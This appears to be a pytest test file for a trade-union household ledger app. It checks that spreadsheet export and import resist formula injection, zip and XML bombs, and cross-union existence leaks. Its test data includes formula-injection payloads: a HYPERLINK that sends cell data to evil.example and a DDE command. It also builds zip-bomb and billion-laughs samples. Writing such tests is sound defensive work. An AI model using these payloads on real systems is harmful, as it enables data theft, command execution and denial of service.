"""Issue 11, the ledger workbook: formula injection in the export, exports missing from the access log,
workbook bombs, and import errors that told an outsider about another union's household."""

from __future__ import annotations

import asyncio
import base64
import gc
import io
import os
import sys
import time
import tracemalloc
import zipfile
from datetime import date
from pathlib import Path
from typing import Any

import pytest
from openpyxl import Workbook, load_workbook

from lianxin.core.config import Settings
from lianxin.core.errors import DomainError
from lianxin.core.ids import to_global_id
from lianxin.core.tokens import Principal, Role
from lianxin.ledger import service
from lianxin.ledger.workbook import (
    HOUSEHOLD_COLUMNS,
    HOUSEHOLDS,
    MEMBER_COLUMNS,
    MEMBERS,
    WorkbookLimits,
    check_archive,
    read_workbook,
    write_workbook,
)
from lianxin.trade_union.models import UnionKind

from conftest import make_token
from factories import make_union, member_input

CREATE = """mutation($input: CreateHouseholdInput!) {
  createHousehold(input: $input) { household { id } errors { code message field } } }"""
IMPORT = """mutation($content: String!) { importLedger(input: {content: $content}) {
  created updated unchanged failed rowErrors { sheet row column code message } errors { code field } } }"""
SHEETS = {HOUSEHOLDS: HOUSEHOLD_COLUMNS, MEMBERS: MEMBER_COLUMNS}
# what a spreadsheet would run if it took them for formulas (DDE, links, functions)
PAYLOADS = [
    "=1+2",
    "+1+2",
    "-1+2",
    "@SUM(1,2)",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "＝1+2",
]


def household(union: str, archive_no: str, **overrides: Any) -> dict[str, Any]:
    return {
        "unionId": union,
        "archiveNo": archive_no,
        "level": "NATIONAL",
        "category": "DEEP",
        "hardshipReasons": ["ILLNESS"],
        "regionCode": "371002",
        "members": [member_input("HEAD", "19770101")],
        **overrides,
    }


def encode(book: Workbook) -> str:
    out = io.BytesIO()
    book.save(out)
    return base64.b64encode(out.getvalue()).decode()


def sheets_of(rows: list[list[Any]], members: list[list[Any]]) -> str:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.title = HOUSEHOLDS
    sheet.append(list(HOUSEHOLD_COLUMNS))
    for r in rows:
        sheet.append(r)
    other = book.create_sheet(MEMBERS)
    other.append(list(MEMBER_COLUMNS))
    for m in members:
        other.append(m)
    return encode(book)


@pytest.fixture
async def unions(pool: Any) -> dict[str, Any]:
    """Two cities' federations; the ledger's households live under 威海's district."""
    weihai = await make_union(pool, name="威海市总工会")
    district = await make_union(
        pool,
        name="环翠区总工会",
        kind=UnionKind.DISTRICT_FEDERATION,
        region_code="371002",
        parent_id=weihai.id,
    )
    qingdao = await make_union(pool, name="青岛市总工会", region_code="370200")
    return {"district": district, "qingdao": qingdao}


# --- formula injection ---------------------------------------------------------------------------


def test_every_string_is_written_as_text_never_as_a_formula() -> None:
    values = [*PAYLOADS, "\t=1+2", "\r=1+2"]
    data = write_workbook({"x": (["value", "n"], [[v, 7] for v in values])})

    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        xml = b"".join(archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/"))
    assert b"<f>" not in xml
    assert b"<f " not in xml
    sheet = load_workbook(io.BytesIO(data))["x"]
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert [c.value for c in cells] == [v.replace("\r", "\n") for v in values]  # XML reads CR as LF
    assert {c.data_type for c in cells} == {"s"}
    assert {c.number_format for c in cells} == {"@"}  # Text: what Excel users type there stays text
    assert {row[1].value for row in sheet.iter_rows(min_row=2)} == {7}  # our own numbers stay numbers


async def test_an_exported_formula_comes_back_as_the_text_it_was(gql: Any, unions: dict[str, Any]) -> None:
    union = to_global_id("TradeUnion", unions["district"].id)
    members = [member_input("HEAD", "19770101", name=PAYLOADS[0])]
    members += [member_input("CHILD", "20100101", name=p) for p in PAYLOADS[1:]]
    given = household(union, "WH0001", members=members, contactName="=1+2", contactPhone="0631-5201234")
    assert (await gql(CREATE, {"input": given}))["createHousehold"]["errors"] == []

    content = base64.b64decode((await gql("{ ledgerExport }"))["ledgerExport"])
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        xml = b"".join(archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/"))
    assert b"<f>" not in xml
    assert b"<f " not in xml
    book = load_workbook(io.BytesIO(content))
    names = [row[1] for row in book[MEMBERS].iter_rows(min_row=2)]
    assert [c.value for c in names] == PAYLOADS
    assert {c.data_type for c in names} == {"s"}
    assert book[HOUSEHOLDS]["G2"].data_type == "s"
    # and the round trip: the same text is read back, nothing changed
    again = (await gql(IMPORT, {"content": base64.b64encode(content).decode()}))["importLedger"]
    assert (again["unchanged"], again["failed"], again["rowErrors"]) == (1, 0, [])


# --- the access log ------------------------------------------------------------------------------


async def _ledger(gql: Any, unions: dict[str, Any]) -> None:
    union = to_global_id("TradeUnion", unions["district"].id)
    for n in ("WH0001", "WH0002"):
        members = [member_input("HEAD", "19770101"), member_input("CHILD", "20100101")]
        data = await gql(CREATE, {"input": household(union, n, members=members)})
        assert data["createHousehold"]["errors"] == []


async def _member_ids(pool: Any) -> list[int]:
    async with pool.acquire() as conn:
        return [r["id"] for r in await conn.fetch("SELECT id FROM member ORDER BY id")]


async def _access_log(pool: Any) -> list[Any]:
    async with pool.acquire() as conn:
        return list(await conn.fetch("SELECT * FROM access_log ORDER BY id"))


@pytest.mark.parametrize("role", [Role.ADMIN, Role.UNION_STAFF])
async def test_an_export_is_an_unmasked_read_of_every_member_it_holds(
    client: Any, gql: Any, pool: Any, unions: dict[str, Any], role: Role
) -> None:
    await _ledger(gql, unions)
    scope = {"union_id": unions["district"].id} if role is Role.UNION_STAFF else {}
    response = await client.post(
        "/graphql",
        json={"query": "{ ledgerExport }"},
        headers={"Authorization": f"Bearer {make_token(role, **scope)}", "X-Request-Id": "req-export-1"},
    )
    assert "errors" not in response.json()

    [row] = await _access_log(pool)
    assert (row["actor_subject"], row["actor_role"], row["field"], row["request_id"]) == (
        f"test:{role.value.lower()}",
        role.value,
        "Member.idNumber",
        "req-export-1",
    )
    assert row["member_ids"] == await _member_ids(pool)


async def test_an_export_from_the_command_line_is_in_the_access_log(
    gql: Any, pool: Any, unions: dict[str, Any], settings: Settings, tmp_path: Path
) -> None:
    await _ledger(gql, unions)
    env = {k: v for k, v in os.environ.items() if k not in ("REDIS_URL", "DATABASE_URL")}
    env |= {"DATABASE_URL": settings.require_database_url(), "LIANXIN_DATA_DIR": str(settings.data_dir)}
    proc = await asyncio.create_subprocess_exec(
        str(Path(sys.executable).with_name("lianxin")),
        "ledger-export",
        str(tmp_path / "ledger.xlsx"),
        env=env,
        stdout=asyncio.subprocess.PIPE,
        stderr=asyncio.subprocess.PIPE,
    )
    _, err = await asyncio.wait_for(proc.communicate(), timeout=30)
    assert proc.returncode == 0, err

    [row] = await _access_log(pool)
    assert row["actor_subject"].startswith("cli:")
    assert (row["actor_role"], row["field"]) == ("ADMIN", "Member.idNumber")
    assert row["member_ids"] == await _member_ids(pool)


# --- workbook bombs ------------------------------------------------------------------------------

SHEET_HEAD = (
    b'<?xml version="1.0" encoding="UTF-8"?>'
    b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
)


def bomb(sheet_xml: list[bytes], *, zeros: int = 0) -> bytes:
    """A real two-sheet ledger whose households sheet is replaced by `sheet_xml` (+ `zeros` zero digits
    streamed into one cell): tiny on disk, as large as asked unpacked."""
    good = write_workbook({HOUSEHOLDS: (HOUSEHOLD_COLUMNS, []), MEMBERS: (MEMBER_COLUMNS, [])})
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(good)) as source,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as target,
    ):
        for name in source.namelist():
            if name != "xl/worksheets/sheet1.xml":
                target.writestr(name, source.read(name))
        with target.open("xl/worksheets/sheet1.xml", "w", force_zip64=False) as sheet:
            sheet.write(SHEET_HEAD)
            for part in sheet_xml:
                sheet.write(part)
            if zeros:
                sheet.write(b'<row r="2"><c r="A2"><v>')
                chunk = b"0" * (1 << 20)
                for _ in range(zeros >> 20):
                    sheet.write(chunk)
                sheet.write(b"</v></c></row>")
            sheet.write(b"</sheetData></worksheet>")
    return out.getvalue()


def header_row() -> bytes:
    cells = "".join(
        f'<c r="{chr(65 + i)}1" t="inlineStr"><is><t>{c}</t></is></c>'
        for i, c in enumerate(HOUSEHOLD_COLUMNS)
    )
    return f'<row r="1">{cells}</row>'.encode()


async def test_a_zip_bomb_is_refused_fast_before_it_is_unpacked(pool: Any) -> None:
    data = bomb([header_row()], zeros=200 << 20)  # 200 MiB of zeros in one cell
    assert len(data) < 400_000

    tracemalloc.start()
    started = time.perf_counter()
    with pytest.raises(DomainError) as refused:
        await service.import_ledger(
            pool,
            data,
            today=date(2026, 11, 29),
            dispatcher=None,
            who=service.ImportContext(caller=Principal("test:admin", Role.ADMIN)),
        )
    elapsed = time.perf_counter() - started
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert [i.code for i in refused.value.issues] == ["WORKBOOK_TOO_LARGE"]
    assert elapsed < 1.0
    assert peak < 16 << 20  # the central directory is read, nothing is inflated


async def test_a_zip_bomb_upload_is_a_coded_user_error(gql: Any, pool: Any) -> None:
    data = bomb([header_row()], zeros=100 << 20)
    result = (await gql(IMPORT, {"content": base64.b64encode(data).decode()}))["importLedger"]
    assert result["errors"] == [{"code": "WORKBOOK_TOO_LARGE", "field": ["content"]}]


def test_a_bomb_under_the_size_limit_is_refused_by_its_ratio() -> None:
    data = bomb([header_row()], zeros=8 << 20)  # 8 MiB of zeros: 1000 to 1
    with pytest.raises(DomainError) as refused:
        check_archive(data, WorkbookLimits())
    assert refused.value.issues[0].code == "WORKBOOK_TOO_LARGE"


@pytest.mark.parametrize(
    ("parts", "code"),
    [
        ([header_row(), b'<row r="2">' + b"<c/>" * 2000 + b"</row>"], "WORKBOOK_TOO_LARGE"),  # wide row
        ([header_row(), b"<row/>" * 200], "WORKBOOK_TOO_LARGE"),  # rows past max_rows (100 here)
        (
            [
                header_row(),
                b'<row r="2"><c r="A2" t="inlineStr"><is>' + b"<r/>" * 20_000 + b"</is></c></row>",
            ],
            "WORKBOOK_TOO_LARGE",
        ),  # one cell of countless runs
    ],
    ids=["wide-row", "many-rows", "deep-cell"],
)
def test_what_openpyxl_would_build_objects_for_is_counted_before_it_parses(
    parts: list[bytes], code: str
) -> None:
    with pytest.raises(DomainError) as refused:
        read_workbook(bomb(parts), SHEETS, WorkbookLimits(max_rows=100))
    assert refused.value.issues[0].code == code


def test_entities_are_refused() -> None:
    laughs = (
        b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;">]>'
        b"<sst><si><t>&lol2;</t></si></sst>"
    )
    good = write_workbook({HOUSEHOLDS: (HOUSEHOLD_COLUMNS, []), MEMBERS: (MEMBER_COLUMNS, [])})
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(good)) as source, zipfile.ZipFile(out, "w") as target:
        for name in source.namelist():
            target.writestr(name, source.read(name))
        target.writestr("xl/sharedStrings.xml", laughs)
    with pytest.raises(DomainError) as refused:
        read_workbook(out.getvalue(), SHEETS)
    assert refused.value.issues[0].code == "INVALID_WORKBOOK"


def test_a_cell_over_the_size_limit_refuses_the_file() -> None:
    long = "长" * 10_001
    data = write_workbook(
        {
            HOUSEHOLDS: (HOUSEHOLD_COLUMNS, [["WH1", "x", "NATIONAL", "DEEP", "", "371002", long, ""]]),
            MEMBERS: (MEMBER_COLUMNS, []),
        }
    )
    with pytest.raises(DomainError) as refused:
        read_workbook(data, SHEETS)
    assert refused.value.issues[0].code == "CELL_TOO_LARGE"
    assert "row 2" in refused.value.issues[0].message
    fits = write_workbook(
        {
            HOUSEHOLDS: (HOUSEHOLD_COLUMNS, [["WH1", "x", "", "", "", "", "长" * 10_000]]),
            MEMBERS: (MEMBER_COLUMNS, []),
        }
    )
    assert read_workbook(fits, SHEETS)[HOUSEHOLDS][0].cells["contactName"] == "长" * 10_000


async def test_a_workbook_is_parsed_off_the_event_loop(pool: Any) -> None:
    rows = [
        [f"WH{i:06d}", "not-an-id", "NATIONAL", "DEEP", "ILLNESS", "371002", "王", ""] for i in range(2000)
    ]
    data = write_workbook({HOUSEHOLDS: (HOUSEHOLD_COLUMNS, rows), MEMBERS: (MEMBER_COLUMNS, [])})
    started = time.perf_counter()
    read_workbook(data, SHEETS)
    parse = time.perf_counter() - started

    gaps: list[float] = []

    async def ticker() -> None:
        last = time.perf_counter()
        while True:
            await asyncio.sleep(0.005)
            now = time.perf_counter()
            gaps.append(now - last)
            last = now

    ticking = asyncio.create_task(ticker())
    gc.collect()
    gc.disable()  # a collection's pause is not what this measures
    try:
        report = await service.import_ledger(
            pool,
            data,
            today=date(2026, 11, 29),
            dispatcher=None,
            who=service.ImportContext(caller=Principal("test:admin", Role.ADMIN)),
        )
    finally:
        gc.enable()
        ticking.cancel()
    assert report.failed == 2000  # every row refused while parsing its cells: no database work
    # on the event loop, the loop would stall for the whole parse; in a thread it keeps ticking
    assert max(gaps) < parse / 2, (max(gaps), parse)


# --- existence leaks -----------------------------------------------------------------------------


async def test_an_archive_number_held_outside_the_scope_reads_like_any_number_in_use(
    gql: Any, pool: Any, unions: dict[str, Any]
) -> None:
    district = to_global_id("TradeUnion", unions["district"].id)
    qingdao = to_global_id("TradeUnion", unions["qingdao"].id)
    # two households of 威海's district, at levels and regions the outsider must not learn
    given = household(district, "WH0001", level="NATIONAL")
    assert (await gql(CREATE, {"input": given}))["createHousehold"]["errors"] == []
    other = household(district, "WH0002", level="PROVINCIAL", regionCode="371002")
    assert (await gql(CREATE, {"input": other}))["createHousehold"]["errors"] == []
    staff = make_token(Role.UNION_STAFF, union_id=unions["qingdao"].id)

    def row(archive_no: str) -> list[Any]:
        return [archive_no, qingdao, "MUNICIPAL", "DEEP", "ILLNESS", "370202", None, None]

    def member(archive_no: str) -> list[Any]:
        m = member_input("HEAD", "19800101")
        return [archive_no, m["name"], "HEAD", m["idNumber"], "HEALTHY", "EMPLOYED"]

    content = sheets_of([row("WH0001"), row("WH0002")], [member("WH0001"), member("WH0002")])
    result = (await gql(IMPORT, {"content": content}, token=staff))["importLedger"]

    assert (result["created"], result["updated"], result["failed"]) == (0, 0, 2)
    first, second = result["rowErrors"]
    assert first == {
        "sheet": "households",
        "row": 2,
        "column": "archiveNo",
        "code": "DUPLICATE_ARCHIVE_NO",
        "message": "archive number WH0001 is already in use",
    }
    assert {**second, "row": 2, "message": second["message"].replace("WH0002", "WH0001")} == first
    text = repr(result)
    for secret in (
        "NATIONAL",
        "PROVINCIAL",
        "371002",
        district,
        f"is {unions['district'].id}",
        "in the archive",
    ):
        assert secret not in text
    # word for word what archiving a household with that number says to the same caller
    single = await gql(CREATE, {"input": household(qingdao, "WH0001", regionCode="370202")}, token=staff)
    [error] = single["createHousehold"]["errors"]
    assert (error["code"], error["message"], error["field"]) == (
        first["code"],
        first["message"],
        [first["column"]],
    )


async def test_the_household_holding_a_member_is_never_named(gql: Any, unions: dict[str, Any]) -> None:
    district = to_global_id("TradeUnion", unions["district"].id)
    qingdao = to_global_id("TradeUnion", unions["qingdao"].id)
    head = member_input("HEAD", "19770101")
    assert (await gql(CREATE, {"input": household(district, "WH0001", members=[head])}))["createHousehold"][
        "errors"
    ] == []
    staff = make_token(Role.UNION_STAFF, union_id=unions["qingdao"].id)

    mine = household(qingdao, "QD0001", regionCode="370202", members=[head])
    [error] = (await gql(CREATE, {"input": mine}, token=staff))["createHousehold"]["errors"]
    assert error["code"] == "MEMBER_IN_OTHER_HOUSEHOLD"
    assert error["message"] == "a person among the members is already an active member of another household"

    # and through the ledger
    content = sheets_of(
        [["QD0001", qingdao, "MUNICIPAL", "DEEP", "ILLNESS", "370202", None, None]],
        [["QD0001", head["name"], "HEAD", head["idNumber"], "HEALTHY", "EMPLOYED"]],
    )
    result = (await gql(IMPORT, {"content": content}, token=staff))["importLedger"]
    [row_error] = result["rowErrors"]
    assert (row_error["code"], row_error["message"]) == ("MEMBER_IN_OTHER_HOUSEHOLD", error["message"])
    assert "WH0001" not in repr(result)
